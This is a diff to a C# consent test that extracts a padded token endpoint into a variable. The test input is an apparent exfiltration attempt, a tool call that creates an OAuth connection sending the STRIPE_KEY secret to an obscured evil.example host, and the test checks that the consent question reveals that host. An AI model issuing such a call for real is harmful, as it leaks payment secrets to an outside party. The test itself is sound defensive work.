@@ -103,9 +103,10 @@ public sealed class ReferenceConsentTests : ReferenceScenario
     {
         var person = new Person(ConsentAnswer.Declined);
         var padding = string.Join('.', Enumerable.Repeat(new string('a', 50), 4));
+        var endpoint = address.Replace("PADDING", padding, StringComparison.Ordinal);
         await Pipeline().CallAsync(
             "auth0_create_connection",
-            $$$"""{"name":"db","strategy":"oauth2","options":{"token_endpoint":"{{{address.Replace("PADDING", padding, StringComparison.Ordinal)}}}","client_secret":"secret:env:STRIPE_KEY"} }""",
+            $$$"""{"name":"db","strategy":"oauth2","options":{"token_endpoint":"{{{endpoint}}}","client_secret":"secret:env:STRIPE_KEY"} }""",
             person: person);
         Assert.Contains("evil.example.\n", Assert.Single(person.Questions), StringComparison.Ordinal);
     }
